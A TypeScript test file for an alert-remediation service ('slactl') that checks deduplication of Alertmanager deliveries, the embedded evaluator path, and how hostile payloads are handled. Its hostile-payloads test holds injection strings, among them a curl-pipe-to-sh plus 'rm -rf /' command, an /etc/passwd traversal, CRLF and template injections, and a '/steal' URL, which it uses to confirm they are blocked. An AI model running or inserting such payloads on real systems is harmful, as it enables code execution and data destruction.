// Alert deliveries to runs: one run per episode however often and in whatever order it is delivered,
// the embedded evaluator on the same path, and hostile payloads that never reach a shell, a template
// or a host off the allow list.
import { mkdtempSync, readFileSync, rmSync, existsSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import fc from 'fast-check';
import { afterEach, describe, expect, it } from 'vitest';
import type { Transition } from '../evaluate/types.js';
import { parseWebhook } from './alertmanager.js';
import { alertFromInstance, alertFromTransition } from './receiver.js';
import { parseRemediationConfig } from './targets.js';
import {
  compactAction,
  firing,
  harness,
  recallLabels,
  resolved,
  runbookOf,
  T0,
  type Harness,
  type HarnessOptions,
} from './test-support/fixtures.js';
import { TargetServer } from './test-support/target-server.js';

let h: Harness | undefined;
const cleanup: Array<() => Promise<void> | void> = [];
afterEach(async () => {
  await h?.close();
  h = undefined;
  for (const fn of cleanup.splice(0)) await fn();
});
async function start(options: HarnessOptions = {}): Promise<Harness> {
  h = await harness(options);
  return h;
}
const approval = [runbookOf([compactAction({ approval: 'required' })])];
const allRuns = (t: Harness) => t.engine.list({ limit: '200' }).runs;

describe('deduplication', () => {
  it('starts one run for an episode delivered again and again (repeats, retries)', async () => {
    const t = await start({ runbooks: approval });
    const first = t.receiver.receive([firing(recallLabels(), T0)], 'alertmanager');
    expect(first).toMatchObject({ alerts: 1, new: 1, duplicates: 0 });
    for (let i = 0; i < 5; i++) {
      t.clock.advance(4 * 3_600_000);
      expect(t.receiver.receive([firing(recallLabels(), T0)], 'alertmanager')).toMatchObject({
        new: 0,
        duplicates: 1,
        runs: [],
      });
    }
    expect(allRuns(t)).toHaveLength(1);
    expect(
      t.rows.getEpisode(first.runs.length > 0 ? t.engine.get(first.runs[0]!).alert.fingerprint : '', T0)
        ?.deliveries,
    ).toBe(6);
    expect(t.audit.kinds().filter((k) => k === 'alert_duplicate')).toHaveLength(5);
  });

  it('starts one run for the two deliveries of an HA pair, even when their startsAt differ a little', async () => {
    const t = await start({ runbooks: approval });
    const webhook = {
      version: '4',
      status: 'firing',
      receiver: 'slactl',
      groupKey: 'g',
      alerts: [
        { status: 'firing', labels: recallLabels(), annotations: {}, startsAt: new Date(T0).toISOString() },
      ],
    };
    const parsed = parseWebhook(webhook);
    if (!parsed.ok) throw new Error('bad payload');
    t.receiver.receive(
      parsed.alerts.map((a) => a.alert),
      'alertmanager-a',
    );
    t.receiver.receive(
      parsed.alerts.map((a) => a.alert),
      'alertmanager-b',
    );
    // The other replica's Prometheus saw it fire one evaluation later.
    t.receiver.receive([firing(recallLabels(), T0 + 30_000)], 'alertmanager-b');
    expect(allRuns(t)).toHaveLength(1);
    expect(t.audit.entries.filter((e) => e.kind === 'alert_duplicate').map((e) => e.data.reason)).toEqual([
      'repeat',
      'same_episode',
    ]);
  });

  it("starts no second run for an HA replica's firing delivery that comes after the episode resolved", async () => {
    const t = await start({ runbooks: approval });
    // Replica a: fires at T0, resolves at T0+90s. Replica b saw it fire 15 s later, and its firing
    // delivery (a retry) arrives only after a's resolution.
    expect(t.receiver.receive([firing(recallLabels(), T0)], 'alertmanager-a').runs).toHaveLength(1);
    t.clock.advance(90_000);
    t.receiver.receive([resolved(recallLabels(), T0, T0 + 90_000)], 'alertmanager-a');
    const late = t.receiver.receive([firing(recallLabels(), T0 + 15_000)], 'alertmanager-b');
    expect(late).toMatchObject({ new: 0, duplicates: 1, runs: [] });
    expect(allRuns(t)).toHaveLength(1);
    expect(t.audit.entries.at(-1)).toMatchObject({
      kind: 'alert_duplicate',
      data: { reason: 'already_resolved' },
    });
    // A firing that starts after the episode ended is a new episode, with its own run.
    const next = t.receiver.receive([firing(recallLabels(), T0 + 100_000)], 'alertmanager-a');
    expect(next).toMatchObject({ new: 1 });
    expect(next.runs).toHaveLength(1);
  });

  it('starts nothing when the resolved notification overtakes the firing one', async () => {
    const t = await start({ runbooks: approval });
    expect(t.receiver.receive([resolved(recallLabels(), T0)], 'alertmanager')).toMatchObject({
      new: 1,
      runs: [],
    });
    expect(t.receiver.receive([firing(recallLabels(), T0)], 'alertmanager')).toMatchObject({
      duplicates: 1,
      runs: [],
    });
    expect(allRuns(t)).toHaveLength(0);
    expect(t.audit.entries.at(-1)).toMatchObject({
      kind: 'alert_duplicate',
      data: { reason: 'already_resolved' },
    });
  });

  it('starts a new run for a new episode of the same labels (a later startsAt after resolving)', async () => {
    const t = await start({ runbooks: approval });
    const [a] = t.receiver.receive([firing(recallLabels(), T0)], 'alertmanager').runs;
    t.engine.reject(a!, 'token:t1 (alice)');
    t.receiver.receive([resolved(recallLabels(), T0)], 'alertmanager');
    t.receiver.receive([resolved(recallLabels(), T0)], 'alertmanager');
    const later = t.receiver.receive([firing(recallLabels(), T0 + 3_600_000)], 'alertmanager');
    expect(later.runs).toHaveLength(1);
    expect(allRuns(t)).toHaveLength(2);
  });

  it('starts one run per episode exactly when its first delivery is a firing one, in any order', async () => {
    const t = await start({ runbooks: approval });
    const deliveries = [
      firing(recallLabels('a'), T0),
      firing(recallLabels('a'), T0),
      resolved(recallLabels('a'), T0),
      resolved(recallLabels('b'), T0),
      firing(recallLabels('b'), T0),
      firing(recallLabels('c'), T0),
      resolved(recallLabels('c'), T0),
      firing(recallLabels('c'), T0),
    ];
    let round = 0;
    fc.assert(
      fc.property(fc.shuffledSubarray([...deliveries.keys()], { minLength: 8, maxLength: 8 }), (order) => {
        round++;
        const tagged = deliveries.map((d) => ({
          ...d,
          labels: { ...d.labels, index: `${d.labels.index}-${round}` },
        }));
        for (const i of order) t.receiver.receive([tagged[i]!], 'alertmanager');
        for (const index of ['a', 'b', 'c']) {
          const first = order.map((i) => tagged[i]!).find((d) => d.labels.index === `${index}-${round}`)!;
          const runs = t.rows
            .listRuns({ limit: 10_000 })
            .filter((r) => r.labels.index === `${index}-${round}`);
          expect(runs).toHaveLength(first.status === 'firing' ? 1 : 0);
        }
      }),
      { numRuns: 60 },
    );
  });

  it('forgets episodes not delivered within the retention, and no sooner', async () => {
    const t = await start({ runbooks: approval });
    t.receiver.receive([firing(recallLabels('a'), T0)], 'alertmanager');
    t.clock.advance(20 * 86_400_000);
    t.receiver.receive([firing(recallLabels('b'), T0 + 1)], 'alertmanager');
    expect(t.receiver.prune(t.clock.now(), 10 * 86_400_000)).toBe(1);
    // b is still known: its repeat is a duplicate.
    expect(t.receiver.receive([firing(recallLabels('b'), T0 + 1)], 'alertmanager').duplicates).toBe(1);
  });

  it('keys episodes on slactl’s fingerprint of the labels, not the sender’s', async () => {
    const t = await start({ runbooks: approval });
    t.receiver.receive([{ ...firing(recallLabels(), T0), sourceFingerprint: 'aaaa' }], 'alertmanager');
    t.receiver.receive([{ ...firing(recallLabels(), T0), sourceFingerprint: 'bbbb' }], 'alertmanager');
    expect(allRuns(t)).toHaveLength(1);
  });

  it('starts only the runbooks whose trigger matchers and action alerts match', async () => {
    const t = await start({
      runbooks: [
        runbookOf([compactAction({ approval: 'required' })], {
          id: 'vector-index-degradation',
          triggers: ['LatencyComponentOverBudget', 'VectorRecallBelowTarget'],
          triggerMatchers: [
            { alert: 'LatencyComponentOverBudget', labels: { component: 'vector_search' } },
            { alert: 'VectorRecallBelowTarget', labels: {} },
          ],
        }),
        runbookOf(
          [
            compactAction({ id: 'only-recall', approval: 'required', alerts: ['VectorRecallBelowTarget'] }),
            compactAction({ id: 'manual', auto: false }),
          ],
          {
            id: 'tombstones',
            triggers: ['VectorRecallBelowTarget', 'LatencyComponentOverBudget'],
          },
        ),
      ],
    });
    const latency = (component: string) => ({
      alertname: 'LatencyComponentOverBudget',
      component,
      index: 'products-v3',
    });
    expect(t.receiver.receive([firing(latency('model_inference'), T0)], 'x').runs).toHaveLength(0);
    const vector = t.receiver.receive([firing(latency('vector_search'), T0)], 'x').runs;
    expect(vector.map((id) => t.engine.get(id).runbook)).toEqual(['vector-index-degradation']);
    const recall = t.receiver.receive([firing(recallLabels('faq'), T0)], 'x').runs;
    expect(recall.map((id) => `${t.engine.get(id).runbook}/${t.engine.get(id).action}`).sort()).toEqual([
      'tombstones/only-recall',
      'vector-index-degradation/compact-index',
    ]);
  });
});

describe('the embedded evaluator', () => {
  const transition = (to: Transition['to'], at: number): Transition => ({
    at,
    alertname: 'VectorRecallBelowTarget',
    labels: { ...recallLabels() },
    from: to === 'firing' ? 'pending' : 'firing',
    to,
    sla: 'search-rag',
    fingerprint: '0123456789abcdef',
  });

  it('feeds the same path: firing starts the run, resolved ends its verification', async () => {
    const t = await start();
    expect(alertFromTransition(transition('pending', T0))).toBeUndefined();
    const [id] = t.receiver.receive([alertFromTransition(transition('firing', T0))!], 'evaluator').runs;
    await t.engine.settle();
    expect(t.engine.get(id!).state).toBe('verifying');
    // The same alert from Alertmanager (Prometheus evaluates the compiled rules too) is the same episode.
    t.receiver.receive([firing(recallLabels(), T0)], 'alertmanager');
    expect(allRuns(t)).toHaveLength(1);
    t.clock.advance(60_000);
    t.receiver.receive([alertFromTransition(transition('resolved', T0 + 60_000))!], 'evaluator');
    expect(t.engine.get(id!).state).toBe('succeeded');
  });

  it('turns a firing alert instance into an inbound alert, and a pending one into nothing', () => {
    const instance = {
      alertname: 'VectorRecallBelowTarget',
      labels: recallLabels(),
      annotations: { summary: 's' },
      state: 'firing' as const,
      activeAt: T0 - 60_000,
      firedAt: T0,
      value: 0.7,
      sla: 'search-rag',
      fingerprint: 'f',
    };
    expect(alertFromInstance(instance)).toEqual({
      status: 'firing',
      labels: recallLabels(),
      annotations: { summary: 's' },
      startsAt: T0,
      sourceFingerprint: 'f',
    });
    expect(alertFromInstance({ ...instance, state: 'pending' })).toBeUndefined();
  });
});

describe('hostile payloads', () => {
  const HOSTILE: Record<string, string> = {
    shell: '$(curl http://127.0.0.1:1/x | sh); rm -rf / #',
    traversal: '../../../etc/passwd',
    crlf: 'products\r\nX-Injected: yes',
    long: 'p'.repeat(1_024),
    url: 'http://localhost:PORT/steal',
    template: '{{ template "x" . }}{index}',
  };

  it('never reach a shell, a template or a host off the allow list', async () => {
    const dir = mkdtempSync(path.join(os.tmpdir(), 'slactl-hostile-'));
    cleanup.push(() => rmSync(dir, { recursive: true, force: true }));
    const argvLog = path.join(dir, 'argv.log');
    const marker = path.join(dir, 'pwned');
    const unlisted = await TargetServer.start();
    cleanup.push(() => unlisted.close());
    const recorder = `require('node:fs').appendFileSync(${JSON.stringify(argvLog)}, JSON.stringify(process.argv.slice(1)) + '\\n')`;
    const t = await start({
      runbooks: [
        runbookOf([
          compactAction(),
          compactAction({
            id: 'reindex',
            spec: { kind: 'command', argv: [process.execPath, '-e', recorder, '--', '--index', '{index}'] },
          }),
        ]),
      ],
      config: (url) => {
        const parsed = parseRemediationConfig({
          allowHosts: ['127.0.0.1'],
          targets: { 'search-admin': { url: `${url}/admin` } },
          commands: { allow: [process.execPath] },
        });
        if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
        return parsed.value;
      },
    });
    const alerts = Object.entries(HOSTILE).map(([name, value], i) => ({
      status: 'firing',
      labels: { ...recallLabels(value.replace('PORT', String(unlisted.port))), case: name },
      annotations: {
        description: `see ${HOSTILE.url!.replace('PORT', String(unlisted.port))}`,
        summary: '{{ .Labels }}',
      },
      startsAt: new Date(T0 + i).toISOString(),
      // Alertmanager's own fields are not trusted either.
      generatorURL: `http://localhost:${unlisted.port}/graph`,
      fingerprint: '00',
    }));
    // Plus one alert that is refused outright, and one good one.
    alerts.push({ ...alerts[0]!, labels: { ...recallLabels('x'.repeat(5_000)), case: 'too long' } });
    alerts.push({
      ...alerts[0]!,
      labels: { ...recallLabels('products-v3'), case: 'good' },
      startsAt: new Date(T0 - 1).toISOString(),
    });
    const parsed = parseWebhook({ version: '4', alerts });
    if (!parsed.ok) throw new Error('envelope refused');
    expect(parsed.rejected.map((r) => r.problems[0]!.field)).toEqual([`alerts[6].labels.index`]);
    t.receiver.receive(
      parsed.alerts.map((a) => a.alert),
      'token:am (alertmanager)',
      parsed.rejected,
    );
    await t.engine.settle();

    const runs = allRuns(t);
    const good = runs.filter((r) => r.alert.labels.case === 'good');
    const bad = runs.filter((r) => r.alert.labels.case !== 'good');
    expect(good.map((r) => r.state)).toEqual(['verifying', 'verifying']);
    expect(bad).toHaveLength(2 * Object.keys(HOSTILE).length);
    for (const run of bad)
      expect(run).toMatchObject({ state: 'failed', reason: 'template_rejected', attemptCount: 0 });

    // Only the good alert's request reached the target; nothing reached the unlisted host or a shell.
    expect(t.target.requests.map((r) => r.url)).toEqual(['/admin/indexes/products-v3/compact']);
    expect(unlisted.requests).toHaveLength(0);
    expect(
      readFileSync(argvLog, 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as string[]),
    ).toEqual([['--index', 'products-v3']]);
    expect(existsSync(marker)).toBe(false);

    // What was recorded about them is escaped and bounded: no raw CR/LF, no 1 KiB value in a message.
    const problems = t.audit.entries
      .filter((e) => e.kind === 'escalation')
      .map((e) => JSON.stringify(e.data));
    expect(problems).toHaveLength(bad.length);
    for (const p of problems) {
      expect(p).not.toMatch(/[\r\n]/);
      expect(p.length).toBeLessThan(1_000);
    }
    expect(t.audit.entries.find((e) => e.data.rejected === true)).toMatchObject({
      kind: 'alert_received',
      actor: 'token:am (alertmanager)',
      data: {
        index: 6,
        problems: [{ field: 'alerts[6].labels.index', message: 'value is 5000 characters, more than 1024' }],
      },
    });
  });
});
